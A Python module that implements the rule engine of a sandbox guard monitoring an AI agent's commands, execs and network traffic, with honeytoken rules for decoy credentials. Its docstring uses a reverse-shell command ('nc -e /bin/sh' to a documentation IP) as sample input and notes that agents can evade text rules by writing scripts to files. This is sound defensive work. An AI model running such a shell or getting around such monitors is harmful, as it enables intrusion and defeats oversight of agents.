"""The rule engine: evidence in, verdicts out. Pure: no I/O, no clock, no state (but a
small memo of execs that matched nothing, since an exec loop repeats the same argv).

    engine = build_engine(profile.guard, honeytokens=tokens)
    for verdict in engine.evaluate(CommandText("nc -e /bin/sh 203.0.113.9 4444")):
        verdict.emit(session.emit)             # a guard.verdict / honeytoken.touched event
    if (v := strongest(verdicts)) and v.action in ("block", "kill"): ...

Command text is normalised first (see `normalize`): text rules are best-effort and an
agent can always write a script to a file and run it. That is why the same rules also see
what actually ran (process argv, by behaviour flags such as `-o stratum+tcp://`, not only
by program name) and what went over the wire (the gateway's protocol sniffing).
"""

from __future__ import annotations

import threading
from collections import OrderedDict
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from ..errors import ProfileError
from ..events import Emit
from ..jail.profile import GuardSection, NetworkSection
from .actions import ACTIONS, rank
from .evidence import CommandText, Evidence, ProcessExec, from_event, to_dict
from .honeytokens import HoneytokenMatch, Token
from .matchers import Egress
from .normalize import variants, windows
from .packs import PACKS, all_rules, load_pack
from .rule import Rule, parse_rule

_MEMO_SIZE = 512
_MEMO_ARGV = 1024  # only short argv is remembered (bounded memory)
HONEYTOKEN_TOUCH = "secrets.honeytoken"
HONEYTOKEN_EXFIL = "secrets.honeytoken_exfil"
HONEYTOKEN_RULE_IDS = (HONEYTOKEN_TOUCH, HONEYTOKEN_EXFIL)


@dataclass(frozen=True)
class Verdict:
    """One rule's decision about one piece of evidence."""

    rule_id: str
    pack: str
    action: str  # record | flag | block | kill
    severity: str  # info | warning | alert | critical
    message: str  # one line for people: what, which rule, what matched
    evidence: dict[str, Any]  # the evidence as data, plus "matched"
    attack: tuple[str, ...] = ()  # MITRE ATT&CK technique ids
    source: str = ""  # the public detection rule this one follows
    kind: str = "guard.verdict"  # the event kind to record it as
    extra: Mapping[str, Any] = field(default_factory=dict)  # e.g. honeytoken labels

    @property
    def stops(self) -> bool:
        """True for block and kill: the command must not run / the session must end."""
        return rank(self.action) >= rank("block")

    def detail(self) -> dict[str, Any]:
        """The event detail: rule, pack, action, evidence, attack (events.py), and more."""
        return {
            "rule": self.rule_id, "pack": self.pack, "action": self.action,
            "severity": self.severity, "message": self.message, "evidence": self.evidence,
            "attack": list(self.attack), "source": self.source, **self.extra,
        }

    def emit(self, emit: Emit) -> None:
        """Record this verdict as an event through a session's `Emit`."""
        emit(self.kind, self.detail(), severity=self.severity, action=self.action,
             rule=self.rule_id)


def strongest(verdicts: Iterable[Verdict]) -> Verdict | None:
    """The verdict with the strongest action (the first of equals), or None."""
    best: Verdict | None = None
    for v in verdicts:
        if best is None or rank(v.action) > rank(best.action):
            best = v
    return best


def block_message(verdicts: Sequence[Verdict]) -> str:
    """What to tell the agent (and operator) when a command is refused."""
    top = strongest(verdicts)
    if top is None:
        return ""
    return (f"sandbox: command {top.action}ed by guard rule {top.rule_id} ({top.pack}): "
            f"{top.message}. If this is legitimate, set [guard.actions] "
            f"\"{top.rule_id}\" = \"flag\" in the profile.")


class Engine:
    """Evaluates rules against evidence. Build it with `build_engine` from a profile."""

    def __init__(self, rules: Iterable[Rule], egress: Egress | None = None) -> None:
        self.rules: tuple[Rule, ...] = tuple(rules)
        # (host, port) -> allowed by the session's egress policy; None: no policy known,
        # and `egress_denied` rules (an upload toward a host egress denies) stay quiet.
        self.egress = egress
        ids = [r.id for r in self.rules]
        dupes = sorted({i for i in ids if ids.count(i) > 1})
        if dupes:
            raise ValueError(f"duplicate rule ids: {', '.join(dupes)}")
        self._by_id = {r.id: r for r in self.rules}
        # Execs that matched no rule, by everything rules look at (not pid/ppid/uid).
        self._quiet: OrderedDict[tuple[object, ...], None] = OrderedDict()
        self._quiet_lock = threading.Lock()

    def process_names(self) -> frozenset[str]:
        """Program names process rules look for (`ssh`, `nc`, miners): the exec monitor
        judges their execs before others when a session floods it."""
        return frozenset(n for r in self.rules if r.process for n in r.process.exe)

    def rule(self, rule_id: str) -> Rule:
        return self._by_id[rule_id]

    def evaluate(self, evidence: Evidence) -> list[Verdict]:
        """Every rule that matches, strongest action first (rule order among equals)."""
        key: tuple[object, ...] | None = None
        if isinstance(evidence, ProcessExec) and sum(map(len, evidence.argv)) < _MEMO_ARGV:
            key = (evidence.argv, evidence.exe, evidence.comm, evidence.argv_truncated,
                   evidence.recorder)
        elif isinstance(evidence, CommandText) and len(evidence.text) < _MEMO_ARGV:
            # An agent's loop sends the same few commands (every exec is checked by its
            # text first): a quiet one costs ~100 rule matches, a dictionary look here.
            key = ("text", evidence.text)
        if key is not None:
            with self._quiet_lock:
                if key in self._quiet:
                    self._quiet.move_to_end(key)
                    return []
        out = self._evaluate(evidence)
        if key is not None and not out:
            with self._quiet_lock:
                self._quiet[key] = None
                if len(self._quiet) > _MEMO_SIZE:
                    self._quiet.popitem(last=False)
        return out

    def _evaluate(self, evidence: Evidence) -> list[Verdict]:
        texts: list[str] = []
        argv_texts: list[str] = []
        if isinstance(evidence, CommandText):
            texts = _searchable(evidence.text)
        elif isinstance(evidence, ProcessExec):
            argv_texts = _searchable(evidence.command_line())
        out: list[Verdict] = []
        for rule in self.rules:
            why = rule.match(evidence, texts, argv_texts, self.egress)
            if why is not None:
                out.append(self._verdict(rule, evidence, why))
        out.sort(key=lambda v: -rank(v.action))
        return out

    def evaluate_event(self, event: Mapping[str, Any]) -> list[Verdict]:
        """Evaluate a stored or emitted event (`{"kind", "detail"}`); [] if not evidence."""
        evidence = from_event(event)
        return [] if evidence is None else self.evaluate(evidence)

    def check_command(self, text: str) -> list[Verdict]:
        """Shortcut for `evaluate(CommandText(text))`."""
        return self.evaluate(CommandText(text))

    @staticmethod
    def _verdict(rule: Rule, evidence: Evidence, why: str) -> Verdict:
        data = to_dict(evidence)
        data["matched"] = why
        extra: dict[str, Any] = {}
        if rule.honeytokens is not None:
            hits = rule.honeytokens.hits(
                evidence,
                variants(evidence.text) if isinstance(evidence, CommandText) else [],
            )
            extra = {"token": [t.label for t, _ in hits] or [why],
                     "where": data["type"]}
        return Verdict(
            rule_id=rule.id, pack=rule.pack, action=rule.action,
            severity=rule.effective_severity,
            message=f"{rule.description} [{rule.id}]: {why}",
            evidence=data, attack=rule.attack, source=rule.source, kind=rule.event_kind,
            extra=extra,
        )


def _searchable(text: str) -> list[str]:
    """What text rules search: the variants of `text`, long ones cut into windows.

    Bounded work per piece of evidence, whatever the agent sends (see `normalize`): an
    exec with megabytes of argv costs about as much as one with `MAX_TEXT` characters,
    and no single regex search scans more than a window.
    """
    out: dict[str, None] = {}
    for v in variants(text):
        out.update(dict.fromkeys(windows(v)))
    return list(out)


def honeytoken_rules(tokens: Sequence[Token]) -> list[Rule]:
    """The two rules planted decoys add to the secrets pack."""
    frozen = tuple(tokens)
    return [
        Rule(
            id=HONEYTOKEN_TOUCH, pack="secrets", action="flag", severity="critical",
            description="Decoy credential touched (planted honeytoken file or value used)",
            attack=("T1552.001", "T1552.004"),
            source="Honeytokens (canary credentials); MITRE ATT&CK T1552 Unsecured Credentials",
            honeytokens=HoneytokenMatch(frozen, "touch"), event_kind="honeytoken.touched",
        ),
        Rule(
            id=HONEYTOKEN_EXFIL, pack="secrets", action="kill",
            description="Decoy credential leaving the sandbox (in a DNS name or outbound bytes)",
            attack=("T1552.001", "T1048", "T1041"),
            source="Honeytokens (canary credentials); MITRE ATT&CK T1048 Exfiltration Over "
                   "Alternative Protocol",
            honeytokens=HoneytokenMatch(frozen, "exfil"), event_kind="honeytoken.touched",
        ),
    ]


def egress_policy(network: NetworkSection | None) -> Egress | None:
    """(host, port) -> whether the profile's egress lets a connection there, for
    `allowlist` and `guarded`; None for `none` (nothing is allowed, so nothing is worth
    telling apart) or no section."""
    if network is None or network.mode not in ("allowlist", "guarded"):
        return None
    from ..network.policy import Policy  # only here: the guard needs no sockets

    try:
        policy = Policy(network.allow, network.deny, network.protocols, mode=network.mode)
    except ValueError as e:
        raise ProfileError(f"network: {e}") from e
    return policy.target_allowed


def build_engine(
    section: GuardSection | None = None, honeytokens: Sequence[Token] = (),
    network: NetworkSection | None = None,
) -> Engine:
    """The engine a profile asks for: its packs, its profile rules, its action overrides.

    `[guard.actions]` keys are rule ids or pack names; a rule id wins over its pack. Unknown
    packs, unknown override keys, bad actions and bad profile rules raise ProfileError
    naming the key. Honeytoken rules are added when tokens were planted. `network` (the
    profile's egress) lets `egress_denied` rules tell an upload to an allowed host from
    one to a host the allowlist does not name.
    """
    section = section or GuardSection()
    for name in section.packs:
        if name not in PACKS:
            raise ProfileError(
                f"guard.packs: unknown pack {name!r}; available: {', '.join(PACKS)}")
    rules: list[Rule] = [r for name in dict.fromkeys(section.packs) for r in load_pack(name)]
    builtin_ids = {r.id for r in all_rules()} | set(HONEYTOKEN_RULE_IDS)
    custom: list[Rule] = []
    for i, data in enumerate(section.rules):
        rule = parse_rule(data, pack="custom", where=f"guard.rules[{i}]")
        if rule.id in builtin_ids or any(r.id == rule.id for r in custom):
            raise ProfileError(
                f"guard.rules[{i}]: rule id {rule.id!r} is already taken; pick another id, "
                f"or change a built-in rule's action in [guard.actions]")
        custom.append(rule)
    rules += custom
    if honeytokens and "secrets" in section.packs:
        rules += honeytoken_rules(honeytokens)

    known_ids = builtin_ids | {r.id for r in custom}
    known_packs = set(PACKS) | {r.pack for r in custom}
    for key, action in section.actions.items():
        if action not in ACTIONS:
            raise ProfileError(
                f"guard.actions.{key}: {action!r} is not allowed; use one of "
                f"{', '.join(ACTIONS)}")
        if key not in known_ids and key not in known_packs:
            raise ProfileError(
                f"guard.actions: unknown key {key!r}: not a rule id or pack name "
                f"(packs: {', '.join(sorted(known_packs))})")

    def resolve(rule: Rule) -> Rule:
        if rule.id in section.actions:
            return rule.with_action(section.actions[rule.id])
        if rule.pack in section.actions:
            return rule.with_action(section.actions[rule.pack])
        return rule

    return Engine((resolve(r) for r in rules), egress=egress_policy(network))
